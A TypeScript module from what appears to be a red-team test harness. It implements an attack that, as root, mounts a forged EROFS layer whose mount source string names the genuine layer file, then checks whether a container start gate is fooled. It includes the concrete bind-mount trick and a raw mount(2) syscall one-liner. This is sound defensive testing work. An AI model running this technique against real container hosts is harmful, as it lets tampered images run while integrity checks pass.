/**
 * Attack (T1036 Masquerading, T1565.001 Stored Data Manipulation): root on
 * the node places a forged EROFS filesystem on a pulled layer's snapshot
 * mount point, whose mountinfo source string names the genuine
 * `layer.erofs`. Every byte, inode, timestamp and flag of the genuine file
 * stays untouched, so a check that hashes the file by path and trusts the
 * mount by its source string is satisfied while the container runs the
 * forged content.
 *
 * The source string is only the text given to mount(2): binding the forged
 * image over the layer file's path for the length of one mount(2) call, then
 * dropping the bind, gives a file-backed EROFS mount that names the genuine
 * path. mount(8) would attach a loop device instead, so mount(2) is called
 * directly (perl's syscall, x86_64 number 165).
 */
import { dirname, join } from 'node:path';
import type { Technique } from '../technique.ts';
import { buildForgedLayerFile, pulledLayerOf } from './common.ts';
import { containerMountinfo, readInContainer, tryStart } from './start.ts';
import { rootLowerdirs } from '../../watchdog/mountinfo.ts';
// The defence's documented mount layout (docs/architecture.md), not its logic.
import { GATE_LAYER_ROOT } from '../../gates/layer-mount.ts';

/** mount(2) with the given source string, read-only EROFS (MS_RDONLY = 1). */
const MOUNT_SYSCALL = 'my ($s, $t, $f) = ($ARGV[0], $ARGV[1], q(erofs)); syscall(165, $s, $t, $f, 1, 0) == 0 or die qq(mount(2) of $s on $t: $!\\n)';

export const forgedLayerMount: Technique = {
  name: 'forged-layer-mount',
  async run({ node, attack, workload, pods }) {
    const { path, payload, ref, genuine, target } = await pulledLayerOf(node, attack, workload);
    const built = await buildForgedLayerFile(node, workload, path, payload, genuine.manifest.layers);
    // EROFS mounts a regular file of a disk filesystem, not of the node's own overlay root.
    const forged = join(dirname(dirname(target.layerFile)), '.forged-layer.erofs');
    await node.run(['cp', built.outPath, forged]);
    const mountPoint = join(dirname(target.layerFile), 'fs');
    const fingerprint = ['stat', '-c', '%d:%i:%s:%Y:%Z', target.layerFile];
    const before = (await node.run(fingerprint)).stdout.toString().trim();

    await node.run(['mkdir', '-p', mountPoint]);
    await node.run([
      'sh', '-c',
      // The bind is held by the new mount: detach it lazily, the path shows the genuine file again.
      'mount --bind "$1" "$2" || exit 1; perl -e "$4" "$2" "$3"; rc=$?; umount -l "$2"; exit $rc',
      'sh', forged, target.layerFile, mountPoint, MOUNT_SYSCALL,
    ]);
    const mountinfo = (await node.run(['grep', ` ${mountPoint} `, '/proc/self/mountinfo'])).stdout.toString().trim().split('\n');
    const after = (await node.run(fingerprint)).stdout.toString().trim();
    const evidence: Record<string, unknown> = { ref, layerFile: target.layerFile, mountPoint, forgedRootHash: built.rootHash, forgedFile: forged, forgedMount: mountinfo.at(-1), layerFileUntouched: before === after, layerFileStat: after };
    if (!mountinfo.at(-1)?.includes(` erofs ${target.layerFile} `)) {
      throw new Error(`the forged mount on ${mountPoint} does not name ${target.layerFile} as its source: ${mountinfo.at(-1) ?? 'not mounted'}`);
    }

    const start = await tryStart(node, workload, pods);
    if (!start.started) return { effect: false, reason: `the container did not start (${start.stage}): ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    const seen = await readInContainer(node, start.pod, path);
    evidence.contentSeen = seen.content.toString();
    if (seen.content.toString() === payload) return { effect: true, reason: `the container started from the forged mount on ${mountPoint} and reads the attacker's ${path}`, evidence };
    // The start gate's own mechanism, read from the node: the container's root is an overlay of
    // per-container mounts the gate made from verified loop devices (GATE_LAYER_ROOT), none of
    // them the snapshot mount point the attacker forged.
    const lowerdirs = rootLowerdirs(await containerMountinfo(node, start.pod.containers[0]!.id));
    evidence.containerLowerdirs = lowerdirs;
    const gated = lowerdirs.length > 0 && lowerdirs.every((d) => d.startsWith(`${GATE_LAYER_ROOT}/`)) && !lowerdirs.includes(mountPoint);
    return {
      effect: false,
      reason: `the container started but reads the signed ${path}: the forged mount on ${mountPoint} was not used`,
      evidence,
      ...(gated ? { blockedBy: [{ component: 'start-gate' as const, evidence: `the container's layers are the gate's own mounts (${lowerdirs.join(':')}), not the forged ${mountPoint}` }] } : {}),
    };
  },
};
